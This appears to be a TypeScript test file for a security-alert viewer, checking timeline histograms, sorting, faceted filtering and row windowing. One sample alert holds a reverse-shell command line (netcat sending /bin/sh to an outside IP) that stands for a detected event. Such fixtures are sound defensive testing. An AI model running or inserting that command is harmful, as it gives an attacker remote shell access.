import { describe, expect, it } from 'vitest';
import { AnalysisSession } from '../engine/store/session';
import { computeView } from './view';
import { EMPTY_FILTER, PRIORITIES } from '../model';
import { makeAlert } from '../testing/alerts';

function session(): AnalysisSession {
  const s = new AnalysisSession();
  const add = (rule: string, container: string, priority: (typeof PRIORITIES)[number], second: number, extra = {}) => {
    const { id: _id, ...record } = makeAlert({ rule, priority, timeMs: second * 1000, time: new Date(second * 1000).toISOString(), outputFields: { 'container.id': container, ...extra }, tags: ['mitre_execution'] });
    s.addAlert(record);
  };
  for (let i = 0; i < 50; i++) add('Noisy rule', 'c1', 'Notice', 1000 + i);
  add('Rare rule', 'c2', 'Critical', 1000, { 'proc.cmdline': 'nc -e /bin/sh 1.2.3.4' });
  add('Rare rule', 'c2', 'Critical', 1599);
  add('Other rule', 'c3', 'Warning', 1300);
  return s;
}

describe('computeView', () => {
  it('stacks every matched alert into the timeline by priority', () => {
    const view = computeView(session(), EMPTY_FILTER);
    expect(view.matchedAlerts).toBe(53);
    const perPriority = PRIORITIES.map((_, p) => view.histogram!.buckets.reduce((sum, b) => sum + b[p]!, 0));
    expect(perPriority[PRIORITIES.indexOf('Notice')]).toBe(50);
    expect(perPriority[PRIORITIES.indexOf('Critical')]).toBe(2);
    expect(perPriority[PRIORITIES.indexOf('Warning')]).toBe(1);
    expect(view.histogram!.buckets[0]!.reduce((a, b) => a + b, 0)).toBeGreaterThan(0);
    expect(view.histogram!.buckets.at(-1)!.reduce((a, b) => a + b, 0)).toBe(1); // the last alert, at 1599 s
  });

  it('sorts by risk, count or time', () => {
    const s = session();
    expect(computeView(s, { ...EMPTY_FILTER, sort: 'risk' }).rows[0]!.rule).toBe('Rare rule');
    expect(computeView(s, { ...EMPTY_FILTER, sort: 'count' }).rows[0]!.rule).toBe('Noisy rule');
    expect(computeView(s, { ...EMPTY_FILTER, sort: 'time' }).rows[0]!.rule).toBe('Rare rule');
  });

  it('counts facets within the other filters, and filters by time range and text', () => {
    const s = session();
    const critical = computeView(s, { ...EMPTY_FILTER, include: { priority: ['Critical'] } });
    expect(critical.rows.map((r) => r.rule)).toEqual(['Rare rule']);
    // The priority facet still offers the other values (it ignores its own filter).
    expect(critical.facets.priority.map((f) => f.value).sort()).toEqual(['Critical', 'Notice', 'Warning']);
    expect(critical.facets.rule).toEqual([{ value: 'Rare rule', count: 2 }]);
    const window = computeView(s, { ...EMPTY_FILTER, from: 1250_000, to: 1350_000 });
    expect(window.rows.map((r) => r.rule).sort()).toEqual(['Other rule', 'Rare rule']);
    expect(computeView(s, { ...EMPTY_FILTER, text: 'NC -E' }).rows.map((r) => r.rule)).toEqual(['Rare rule']);
  });
});

describe('computeView windows', () => {
  it('returns only the requested rows, with the totals and where the selection is', () => {
    const s = session();
    const all = computeView(s, { ...EMPTY_FILTER, sort: 'count' });
    const last = all.rows.at(-1)!.id;
    const window = computeView(s, { ...EMPTY_FILTER, sort: 'count' }, { offset: 1, limit: 1 }, last);
    expect(window.totalRows).toBe(3);
    expect(window.rowOffset).toBe(1);
    expect(window.rows.map((r) => r.id)).toEqual([all.rows[1]!.id]);
    expect(window.firstRowId).toBe(all.rows[0]!.id);
    expect(window.selectedIndex).toBe(2);
    expect(computeView(s, EMPTY_FILTER, { offset: 99, limit: 10 }).rows).toEqual([]);
  });
});
